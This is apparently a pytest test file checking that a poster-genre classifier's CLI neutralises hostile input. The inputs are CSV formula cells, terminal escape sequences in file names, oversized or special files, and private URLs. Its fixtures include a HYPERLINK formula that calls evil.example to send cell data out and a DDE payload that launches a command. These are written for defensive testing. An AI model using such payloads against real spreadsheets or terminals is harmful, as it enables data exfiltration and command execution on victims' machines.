"""The CLI and the Python API fed with files and lists from outside the studio (issue 20): spreadsheet formulas in
ids and names, huge local files, terminal escapes in names, private URLs. JSON output stays exact."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from postergenre.errors import PosterGenreError

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd"]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _agency_list(tmp_path: Path, posters: list[Path]) -> Path:
    listing = tmp_path / "agency.csv"
    with open(listing, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "poster"])
        for i, formula in enumerate(FORMULAS):
            writer.writerow([formula, posters[i % len(posters)]])
        writer.writerow(["=missing()", tmp_path / "nowhere.jpg"])  # a failing row is written too
    return listing


def test_predict_csv_neutralises_formula_cells_and_json_stays_exact(
    run_cli, model_dir: Path, three_posters: list[Path], tmp_path: Path
) -> None:
    listing = _agency_list(tmp_path, three_posters)

    code, out, err = run_cli("predict", listing, "--format", "csv", "--model", model_dir)

    assert code == 1, err  # the missing poster
    rows = list(csv.reader(io.StringIO(out)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS) + 1
    for row in body:
        assert not any(cell.startswith(DANGEROUS_STARTS) for cell in row), row
    assert [r[header.index("id")] for r in body] == ["'" + f for f in FORMULAS] + ["'=missing()"]
    assert [r[header.index("source")] for r in body] == ["'" + f for f in FORMULAS] + ["'=missing()"]
    genre = header[header.index("poster_check_score") + 1]
    assert 0.0 <= float(body[0][header.index(genre)]) <= 1.0  # numbers stay numbers

    code, out, _ = run_cli("predict", listing, "--format", "json", "--model", model_dir)
    assert [r["id"] for r in json.loads(out)] == FORMULAS + ["=missing()"]


def test_compare_csv_neutralises_file_names(
    run_cli, model_dir: Path, three_posters: list[Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    names = ["=1+1.jpg", "@evil.jpg"]
    for name, poster in zip(names, three_posters, strict=False):  # two of the three
        shutil.copy(poster, tmp_path / name)

    code, out, err = run_cli("compare", *names, "--target", "Drama", "--format", "csv", "--model", model_dir)

    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert sorted(r["source"] for r in rows) == sorted("'" + n for n in names)
    assert all(not cell.startswith(DANGEROUS_STARTS) for r in rows for cell in r.values())


# -- local files: bounded before they are read ----------------------------------------------------------------

_MEASURE = """
import json, resource, sys, time
from postergenre.predict.predictor import Predictor
p = Predictor.load(sys.argv[1], home=sys.argv[2])
assert p.predict_many(sys.argv[-1:])[0].ok  # warm: a fresh home's first answer builds the runtime's graph
def peak_mb(): return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
warm_peak = peak_mb()
start = time.perf_counter()
results = p.predict_many(sys.argv[3:])
print(json.dumps({"seconds": time.perf_counter() - start, "warm_peak_mb": warm_peak,
                  "rss_growth_mb": peak_mb() - warm_peak,
                  "results": [r.ok if r.ok else r.error for r in results]}))
"""


@pytest.mark.slow
def test_a_3gb_sparse_file_named_jpg_fails_fast_with_bounded_memory(
    model_dir: Path, three_posters: list[Path], tmp_path: Path
) -> None:
    huge = tmp_path / "huge.jpg"
    with open(huge, "wb") as f:
        f.truncate(3 * 1024**3)  # sparse: no disk used, 3 GB of zeros when read
    jpeg_headed = tmp_path / "big-headed.jpg"  # a real JPEG header, then 3 GB: the size cap, not the sniff
    with open(jpeg_headed, "wb") as f:
        f.write(three_posters[0].read_bytes()[:4096])
        f.truncate(3 * 1024**3)

    run = subprocess.run(
        [
            sys.executable,
            "-c",
            _MEASURE,
            str(model_dir),
            str(tmp_path / "home"),
            str(huge),
            str(jpeg_headed),
            str(three_posters[0]),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )

    assert run.returncode == 0, run.stderr
    report = json.loads(run.stdout)
    first, second, third = report["results"]
    assert "huge.jpg" in first and "not an image" in first, first
    assert "big-headed.jpg" in second and "too large" in second, second
    assert third is True  # one bad file does not end the batch
    assert report["seconds"] < 10, report
    # Reading either file whole would raise the peak by 3 GB over the warm predictor's (whatever building the
    # runtime's graph in this fresh home cost).
    assert report["rss_growth_mb"] < 500, report


def test_the_size_cap_is_documented_and_can_be_raised(predictor, three_posters: list[Path], tmp_path: Path) -> None:
    from postergenre.posters.images import DEFAULT_MAX_FILE_BYTES
    from postergenre.predict.predictor import Predictor

    padded = tmp_path / "padded.jpg"  # a valid JPEG with trailing bytes (decoders ignore them)
    padded.write_bytes(three_posters[0].read_bytes() + b"\0" * DEFAULT_MAX_FILE_BYTES)
    with pytest.raises(PosterGenreError, match=r"padded\.jpg.*too large"):
        predictor.predict(padded)
    roomy = Predictor(predictor.core, max_file_bytes=2 * DEFAULT_MAX_FILE_BYTES)
    assert roomy.predict(padded).decided == predictor.predict(three_posters[0]).decided


def test_cli_refuses_an_oversized_file_by_name_and_max_file_mb_raises_the_cap(
    run_cli, model_dir: Path, three_posters: list[Path], tmp_path: Path
) -> None:
    padded = tmp_path / "padded.jpg"
    padded.write_bytes(three_posters[0].read_bytes() + b"\0" * 10_000_000)
    code, out, err = run_cli("predict", padded, three_posters[1], "--format", "json", "--model", model_dir)
    assert code == 1 and "padded.jpg" in err and "too large" in err and "--max-file-mb" in err
    assert ["error" in r for r in json.loads(out)] == [True, False]
    code, out, err = run_cli("predict", padded, "--max-file-mb", "20", "--format", "json", "--model", model_dir)
    assert code == 0, err


def test_fifos_and_devices_are_refused_without_blocking(predictor, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.jpg"
    os.mkfifo(fifo)
    with pytest.raises(PosterGenreError, match=r"pipe\.jpg.*not a regular file"):
        predictor.predict(fifo)
    with pytest.raises(PosterGenreError, match="not a regular file"):
        predictor.predict(Path("/dev/zero"))


# -- terminal escapes ------------------------------------------------------------------------------------------


def test_escape_sequences_in_names_and_ids_never_reach_the_terminal(
    run_cli, model_dir: Path, three_posters: list[Path], tmp_path: Path
) -> None:
    evil_name = tmp_path / "x\x1b[2J\x1b]0;pwned\x07.jpg"
    evil_name.write_text("not an image")
    listing = tmp_path / "list.csv"
    listing.write_text(f"id,poster\n\x1b[31mred\x9b1m,{three_posters[0]}\nnone\x1b[2J,\n", encoding="utf-8")

    code, out, err = run_cli("predict", evil_name, listing, "--model", model_dir)

    assert code == 1
    assert "\x1b" not in out + err and "\x9b" not in out + err and "\x07" not in out + err
    assert "\\x1b[2J" in err and "\\x1b]0;pwned" in err  # shown escaped, so the user sees what the name holds
    assert "\\x1b[31mred" in out  # the id in the table

    code, out, _ = run_cli("predict", listing, "--format", "json", "--model", model_dir)
    assert json.loads(out)[0]["id"] == "\x1b[31mred\x9b1m"  # JSON stays exact


def test_rich_markup_in_a_name_or_id_is_text(run_cli, model_dir: Path, tmp_path: Path) -> None:
    odd = tmp_path / "a[bold]b[red].jpg"
    odd.write_text("not an image")
    listing = tmp_path / "list.csv"
    listing.write_text("id,poster\nx[/]y,\n", encoding="utf-8")
    code, _, err = run_cli("predict", odd, listing, "--model", model_dir)
    assert code == 1 and "a[bold]b[red].jpg" in err and "x[/]y" in err


# -- private URLs ------------------------------------------------------------------------------------------------


def test_predictor_refuses_private_urls_by_default_and_allows_them_on_request(
    model_dir: Path, predictor, http_root: tuple[str, Path], three_posters: list[Path]
) -> None:
    from postergenre.predict.predictor import Predictor

    base, _ = http_root
    with pytest.raises(PosterGenreError, match="refused"):
        Predictor.load(model_dir).predict(f"{base}/poster.jpg")
    intranet = Predictor(predictor.core, allow_private_urls=True)
    assert intranet.predict(f"{base}/poster.jpg").sha256 == predictor.predict(three_posters[0]).sha256


def test_cli_refuses_private_urls_in_arguments_and_csv_rows_unless_allowed(
    run_cli, model_dir: Path, http_root: tuple[str, Path], tmp_path: Path
) -> None:
    base, _ = http_root
    listing = tmp_path / "list.csv"
    listing.write_text(f"id,poster\nrow1,{base}/poster.jpg\n", encoding="utf-8")

    code, out, err = run_cli("predict", f"{base}/poster.jpg", listing, "--format", "json", "--model", model_dir)
    assert code == 1
    assert all("refused" in r["error"] for r in json.loads(out)), out
    assert err.count("--allow-private-urls") >= 1

    code, out, err = run_cli(
        "predict", f"{base}/poster.jpg", listing, "--format", "json", "--allow-private-urls", "--model", model_dir
    )
    assert code == 0, err

    code, _, err = run_cli(
        "compare", f"{base}/poster.jpg", f"{base}/poster.jpg", "--target", "Drama", "--model", model_dir
    )
    assert code == 1 and "refused" in err
